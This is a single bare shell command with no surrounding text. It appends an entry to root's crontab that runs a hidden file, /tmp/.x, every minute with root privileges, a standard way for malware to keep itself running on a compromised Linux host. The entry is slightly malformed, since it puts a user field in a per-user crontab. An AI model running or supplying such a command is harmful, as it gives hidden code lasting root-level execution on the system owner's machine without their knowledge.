echo '* * * * * root /tmp/.x' >> /var/spool/cron/crontabs/root
